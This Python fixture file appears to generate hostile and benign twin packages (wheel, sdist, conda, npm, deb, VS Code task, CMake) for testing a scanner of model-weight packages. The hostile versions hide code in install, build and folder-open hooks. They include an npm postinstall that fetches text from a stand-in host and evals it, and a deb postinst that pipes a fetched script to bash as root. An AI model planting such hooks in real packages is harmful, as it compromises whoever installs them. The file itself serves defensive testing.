"""Packages and project files beside weights, and what their installers and editors run."""
import base64
import hashlib
import json

from .parts import FETCH, HOST, floats, gz, member, safetensors, tarred, zipped

FAMILY = "packages"
WEIGHTS = safetensors({"w": ("F32", [4, 4], floats(16))}, {"format": "pt"})


def wheel(files, name="tinymodel", version="1.2.0"):
    info = f"{name}-{version}.dist-info/"
    files = {**files, info + "METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: A small model\n", info + "WHEEL": "Wheel-Version: 1.0\nGenerator: setuptools (75.1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    files = {k: v if isinstance(v, bytes) else v.encode() for k, v in files.items()}
    digest = lambda d: base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode()  # noqa: E731
    rows = "".join(f"{k},sha256={digest(v)},{len(v)}\n" for k, v in files.items()) + info + "RECORD,,\n"
    return zipped({**files, info + "RECORD": rows})


def sdist(files, name="tinymodel-1.2.0"):
    files = {"PKG-INFO": "Metadata-Version: 2.1\nName: tinymodel\nVersion: 1.2.0\n", **files}
    return gz(tarred([member(f"{name}/{k}", v if isinstance(v, bytes) else v.encode()) for k, v in files.items()]))


def conda(script):
    import zstandard

    pack = lambda x: zstandard.ZstdCompressor().compress(tarred([member(k, v if isinstance(v, bytes) else v.encode(), mode=0o755) for k, v in x.items()]))  # noqa: E731
    index = json.dumps({"name": "tinymodel", "version": "1.2.0", "build": "0", "build_number": 0, "depends": ["numpy"], "subdir": "noarch"})
    paths = json.dumps({"paths_version": 1, "paths": [{"_path": "bin/.tinymodel-post-link.sh", "path_type": "hardlink"}, {"_path": "share/tinymodel/w.safetensors", "path_type": "hardlink"}]})
    return zipped({
        "metadata.json": json.dumps({"conda_pkg_format_version": 2}), "pkg-tinymodel-1.2.0-0.tar.zst": pack({"bin/.tinymodel-post-link.sh": script, "share/tinymodel/w.safetensors": WEIGHTS}),
        "info-tinymodel-1.2.0-0.tar.zst": pack({"info/index.json": index, "info/paths.json": paths}),
    })  # fmt: skip


def deb(script):
    control = "Package: tinymodel\nVersion: 1.2.0\nArchitecture: all\nMaintainer: Models <models@acme.test>\nDescription: a small model\n"
    parts = {
        "debian-binary": b"2.0\n", "control.tar.gz": gz(tarred([member("./control", control.encode()), member("./postinst", script.encode(), mode=0o755)])),
        "data.tar.gz": gz(tarred([member("./usr/share/models/w.safetensors", WEIGHTS)])),
    }  # fmt: skip
    out = b"!<arch>\n"
    for name, data in parts.items():
        out += f"{name:<16}{1704067200:<12}{0:<6}{0:<6}{100644:<8}{len(data):<10}`\n".encode() + data + b"\n" * (len(data) % 2)
    return out


PYPROJECT = '[build-system]\nrequires = ["setuptools>=70"]\nbuild-backend = "{}"\n{}\n[project]\nname = "tinymodel"\nversion = "1.2.0"\n'
BACKEND = "from setuptools.build_meta import *  # noqa: F403\nfrom setuptools import build_meta\n\n\ndef build_wheel(where, settings=None, metadata=None):\n{}    return build_meta.build_wheel(where, settings, metadata)\n"
SETUP_CFG = "[metadata]\nname = tinymodel\nversion = attr: tinymodel.about.__version__\n\n[options]\npackages = find:\ninclude_package_data = true\n"
CMAKE = "cmake_minimum_required(VERSION 3.18)\nproject(tinymodel LANGUAGES CXX)\nfind_package(Python COMPONENTS Interpreter Development REQUIRED)\n{}\nadd_library(_tiny MODULE src/tiny.cpp)\ntarget_include_directories(_tiny PRIVATE ${{NUMPY_INCLUDE}})\n"


def add(out):
    def pair(name, hostile, twin, prove=None, file=None, why=""):
        out.add(FAMILY, name, hostile, twin, prove, file, why)

    code = {"tinymodel/__init__.py": "from pathlib import Path\n\nWEIGHTS = Path(__file__).with_name('w.safetensors')\n", "tinymodel/w.safetensors": WEIGHTS}
    line = "import os; os.system('touch marker')\n"
    pair("wheel-path-line", wheel({**code, "tinymodel.pth": line}), wheel({**code, "tinymodel.pth": "tinymodel/plugins\n"}), "e11-pth", "tinymodel-1.2.0-py3-none-any.whl", "Python runs a line that starts with `import` in a .pth of site-packages at every start; this is not a torch file. The twin adds a folder.")
    bad = "    import subprocess\n\n    subprocess.run('touch marker', shell=True)\n"
    pair(
        "sdist-own-backend", sdist({"pyproject.toml": PYPROJECT.format("backend", 'backend-path = ["_build"]\n'), "_build/backend.py": BACKEND.format(bad), **code}),
        sdist({"pyproject.toml": PYPROJECT.format("backend", 'backend-path = ["_build"]\n'), "_build/backend.py": BACKEND.format("    print('building', where)\n"), **code}),
        "e11-sdist:backend", "tinymodel-1.2.0.tar.gz", "pip runs the project's own build backend; building the wheel runs a command.",
    )  # fmt: skip
    evil = "import os\n\nos.popen('touch marker').read()\n__version__ = '.'.join(['1', '2', '0'])\n"
    pair(
        "sdist-version-attribute", sdist({"setup.cfg": SETUP_CFG, "tinymodel/about.py": evil, **code}),
        sdist({"setup.cfg": SETUP_CFG, "tinymodel/about.py": "__version__ = '.'.join(['1', '2', '0'])\n", **code}),
        "e11-sdist:attribute", "tinymodel-1.2.0.tar.gz", "setup.cfg asks for an attribute that is no literal, so setuptools imports the module to learn the version, and it runs a command.",
    )  # fmt: skip
    pair("conda-post-link", conda(f"#!/bin/sh\n{FETCH}\n"), conda('#!/bin/sh\necho "tinymodel: weights are in $PREFIX/share/tinymodel" >> "$PREFIX/.messages.txt"\n'), None, "tinymodel-1.2.0-0.conda", "conda runs bin/.NAME-post-link.sh when it installs the package.")
    node = lambda scripts: json.dumps({"name": "tiny-model-web", "version": "1.2.0", "type": "module", "scripts": scripts, "dependencies": {"@huggingface/transformers": "3.0.2"}}, indent=2)  # noqa: E731
    web = {"onnx/tokenizer.json": '{"version": "1.0", "model": {"type": "WordLevel", "vocab": {"a": 0}, "unk_token": "a"}}'}
    pair("npm-postinstall", {"package.json": node({"build": "vite build", "postinstall": f"node -e \"require('http').get('http://{HOST}/n',r=>r.on('data',d=>eval(''+d)))\""}), **web}, {"package.json": node({"build": "vite build", "postinstall": "patch-package"}), **web}, why="npm install runs postinstall, which evaluates fetched text.")
    task = lambda run, cmd: json.dumps({"version": "2.0.0", "tasks": [{"label": "prepare", "type": "shell", "command": cmd, "presentation": {"reveal": "never"}, "runOptions": {"runOn": run}}]}, indent=2)  # noqa: E731
    pair("editor-folder-task", {".vscode/tasks.json": task("folderOpen", FETCH), "model.safetensors": WEIGHTS}, {".vscode/tasks.json": task("default", "python -m pytest -q"), "model.safetensors": WEIGHTS}, why="The editor runs the task when the folder of weights is opened: a fetched script.")
    head = "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n"
    pair("deb-postinst", deb(head + f"    wget -qO- http://{HOST}/d.sh | bash &\nfi\n"), deb(head + "    chmod 0644 /usr/share/models/w.safetensors\nfi\n"), None, "tinymodel_1.2.0_all.deb", "dpkg runs postinst as root: a fetched script.")
    near = 'execute_process(COMMAND ${Python_EXECUTABLE} -c "import numpy; print(numpy.get_include())" OUTPUT_VARIABLE NUMPY_INCLUDE)'
    cm = lambda line: {"pyproject.toml": '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n\n[project]\nname = "tinymodel"\nversion = "1.2.0"\n', "CMakeLists.txt": CMAKE.format(line), "src/tiny.cpp": "int tiny() { return 1; }\n", **code}  # noqa: E731
    pair("cmake-execute", sdist(cm(f'execute_process(COMMAND sh -c "{FETCH}" OUTPUT_QUIET ERROR_QUIET)\n{near}')), sdist(cm(near)), None, "tinymodel-1.2.0.tar.gz", "Configuring the extension of the package runs a fetched script. The twin asks numpy for its headers.")
